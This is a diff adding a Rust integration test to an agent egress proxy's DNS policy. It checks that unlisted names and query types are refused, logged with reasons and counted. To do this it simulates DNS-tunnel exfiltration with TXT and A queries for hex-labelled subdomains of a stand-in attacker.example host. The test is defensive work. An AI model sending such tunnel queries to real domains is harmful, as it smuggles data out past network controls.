@@ -139,6 +139,10 @@ const POLICY: &str = "\
 kind: AgentPolicy
 name: dns
 identity: spiffe://example.org/agent/dns
+# Names it may look up without reaching them, and the test server's odd answers.
+dns:
+  resolve: [one.example.com, \"**.one.example.com\", any.example.com, unknown-llm.example.net,
+            evil.example.org, bad.example.com, slow.example.com]
 egress:
   - to: [api.example.com, chain.example.com, big.example.com, mis.example.com]
     ports: [443]
@@ -725,5 +729,234 @@ fn agents_in_their_own_network_namespace_get_a_proxy_there() {
     assert_eq!(
         resolve(&mut p, "api.example.com", "udp", "A"),
         "ok 203.0.113.10"
+    );
+}
+
+/// DNS is policy: a query leaves the host only when one of the identity's name rules or its
+/// `dns.resolve` list allows the name, and only for the query types that lead to addresses
+/// (plus those `dns.types` lists). Everything else is answered REFUSED by the proxy, and the
+/// upstream (a real dnsmasq, whose query log is the evidence) never sees it. A DNS tunnel
+/// (TXT queries for `<data>.attacker.example`) goes nowhere, and every refusal is counted.
+#[test]
+fn only_names_and_types_the_policy_allows_leave_the_host() {
+    let policy = "\
+kind: AgentPolicy
+name: names
+identity: spiffe://example.org/agent/names
+dns:
+  resolve: [\"*.internal.example\"]
+  types: [TXT]
+egress:
+  - to: [api.example.com]
+    ports: [443]
+    protocol: tcp
+---
+kind: AgentPolicy
+name: plain
+identity: spiffe://example.org/agent/plain
+egress:
+  - to: [192.0.2.0/24]
+    ports: [53, 443]
+---
+kind: AgentPolicy
+name: watcher
+identity: spiffe://example.org/agent/watcher
+mode: audit
+egress:
+  - to: [api.example.com]
+    ports: [443]
+    protocol: tcp
+";
+    let env = TestEnv::new("dns-policy");
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path();
+    let ca = Ca::new("agentwall test CA");
+    std::fs::create_dir(dir.join("policy")).unwrap();
+    std::fs::write(dir.join("policy/agents.yaml"), policy).unwrap();
+    std::fs::write(dir.join("ca.pem"), ca.pem()).unwrap();
+    let ns = NetNs::new("dns-policy");
+    ns.ip(&["addr", "add", &format!("{RESOLVER}/32"), "dev", "lo"]);
+    ns.ip(&["route", "add", "local", "203.0.113.0/24", "dev", "lo"]);
+    let upstream = agentwall_tests::Dnsmasq::start(
+        &ns,
+        RESOLVER,
+        &[
+            ("api.example.com", "203.0.113.10"),
+            ("db.internal.example", "203.0.113.20"),
+            ("other.example.org", "203.0.113.30"),
+        ],
+        &[("api.example.com", "v=spf1 -all")],
+        dir,
+    );
+    let audit = dir.join("audit.jsonl");
+    let metrics = "127.0.0.1:9464";
+    let node = NodeProc::start_in(
+        &env,
+        dir,
+        &[
+            "--dns-upstream",
+            &format!("{RESOLVER}:53"),
+            "--audit-log",
+            audit.to_str().unwrap(),
+            "--metrics-listen",
+            metrics,
+        ],
+        &[],
+        Some(&ns),
+    );
+    let agent = |id: &str, name: &str| -> Probe {
+        let (cert, key) = write_cert(dir, name, &ca.issue(&CertSpec::agent(id)));
+        let mut c = launch_args(&node.socket, &cert, &key);
+        ns.enter(&mut c);
+        c.arg(bin_path("aw-probe"));
+        Probe::from_command(c)
+    };
+    let mut names = agent("spiffe://example.org/agent/names", "names");
+    let mut plain = agent("spiffe://example.org/agent/plain", "plain");
+    let mut watcher = agent("spiffe://example.org/agent/watcher", "watcher");
+
+    // What the policy allows goes out and comes back.
+    assert_eq!(
+        resolve(&mut names, "api.example.com", "udp", "A"),
+        "ok 203.0.113.10"
+    );
+    assert_eq!(resolve(&mut names, "api.example.com", "tcp", "TXT"), "ok");
+    assert_eq!(connect(&mut names, "203.0.113.10", 443), "err ECONNREFUSED");
+    // A name dns.resolve lists resolves, and connecting to it stays denied.
+    assert_eq!(
+        resolve(&mut names, "db.internal.example", "udp", "A"),
+        "ok 203.0.113.20"
+    );
+    assert_eq!(connect(&mut names, "203.0.113.20", 443), "err EPERM");
+    // A tunnel: names and types the policy does not allow are refused, over UDP and TCP.
+    for (name, mode, ty) in [
+        ("6578666976.attacker.example", "udp", "TXT"),
+        ("6578666977.attacker.example", "tcp", "TXT"),
+        ("6578666978.attacker.example", "udp", "A"),
+        ("api.example.com", "udp", "MX"),
+        ("other.example.org", "udp", "A"),
+    ] {
+        assert_eq!(
+            resolve(&mut names, name, mode, ty),
+            "rcode Refused",
+            "{name} {ty} over {mode}"
+        );
+    }
+    // An identity with no name rules and no dns section resolves nothing, even though its
+    // rules would reach the resolver itself: its DNS goes to the proxy too.
+    assert_eq!(
+        resolve(&mut plain, "api.example.com", "udp", "A"),
+        "rcode Refused"
+    );
+    assert_eq!(
+        resolve(&mut plain, "api.example.com", "tcp", "A"),
+        "rcode Refused"
+    );
+    // In audit mode a name that would be refused is resolved, and recorded.
+    assert_eq!(
+        resolve(&mut watcher, "other.example.org", "udp", "A"),
+        "ok 203.0.113.30"
+    );
+    // A burst of tunnel queries: every one refused and counted, a few records written.
+    let burst = 300;
+    for i in 0..burst {
+        assert_eq!(
+            resolve(
+                &mut names,
+                &format!("c{i:04}.attacker.example"),
+                "udp",
+                "TXT"
+            ),
+            "rcode Refused"
+        );
+    }
+
+    // The upstream saw the allowed queries and the audit-mode one, nothing else.
+    let seen = upstream.queries();
+    for want in [
+        "query[A] api.example.com",
+        "query[TXT] api.example.com",
+        "query[A] db.internal.example",
+        "query[A] other.example.org",
+    ] {
+        assert!(
+            seen.iter().any(|l| l.contains(want)),
+            "{want} not in {seen:#?}"
+        );
+    }
+    assert!(
+        !seen
+            .iter()
+            .any(|l| l.contains("attacker.example") || l.contains("query[MX]")),
+        "{seen:#?}"
+    );
+    assert_eq!(seen.len(), 4, "{seen:#?}");
+
+    // Every refusal is on record, with what, why and how many.
+    let records = |event: &str| -> Vec<serde_json::Value> {
+        std::fs::read_to_string(&audit)
+            .unwrap_or_default()
+            .lines()
+            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
+            .filter(|r| r["kind"] == "dns" && r["event"] == event)
+            .collect()
+    };
+    let total = eventually("every refusal counted", Duration::from_secs(10), || {
+        let refused = records("query_refused");
+        let total: u64 = refused.iter().map(|r| r["count"].as_u64().unwrap()).sum();
+        if total == 5 + 2 + burst {
+            Ok(refused)
+        } else {
+            Err(format!("{total} counted"))
+        }
+    });
+    assert!(
+        total.len() < 60,
+        "{} records for {} refusals",
+        total.len(),
+        5 + 2 + burst
+    );
+    let txt = total
+        .iter()
+        .find(|r| r["name"] == "6578666976.attacker.example")
+        .expect("the first tunnel query is a record of its own");
+    assert_eq!(txt["identity"], "spiffe://example.org/agent/names");
+    assert_eq!(txt["type"], "TXT");
+    assert_eq!(
+        txt["why"],
+        "no name rule or dns.resolve entry allows the name"
+    );
+    let mx = total.iter().find(|r| r["type"] == "MX").unwrap();
+    assert_eq!(mx["why"], "query type MX is not allowed (dns.types)");
+    assert!(
+        total
+            .iter()
+            .any(|r| r["identity"] == "spiffe://example.org/agent/plain")
+    );
+    let would = records("query_would_refuse");
+    assert_eq!(would.len(), 1, "{would:#?}");
+    assert_eq!(would[0]["identity"], "spiffe://example.org/agent/watcher");
+    assert_eq!(would[0]["name"], "other.example.org");
+    let m = scrape(&ns, metrics);
+    assert_eq!(
+        metric(&m, "agentwall_dns_queries_refused_total", &[]) as u64,
+        5 + 2 + burst
+    );
+    // What audit mode saw is what `policy suggest` proposes to resolve.
+    let out = agentwall()
+        .args([
+            "policy",
+            "suggest",
+            "--identity",
+            "spiffe://example.org/agent/watcher",
+        ])
+        .arg("--audit-log")
+        .arg(&audit)
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        text.contains("mode: enforce\ndns:\n  resolve: [other.example.org]\negress:\n"),
+        "{text}"
     );
 }
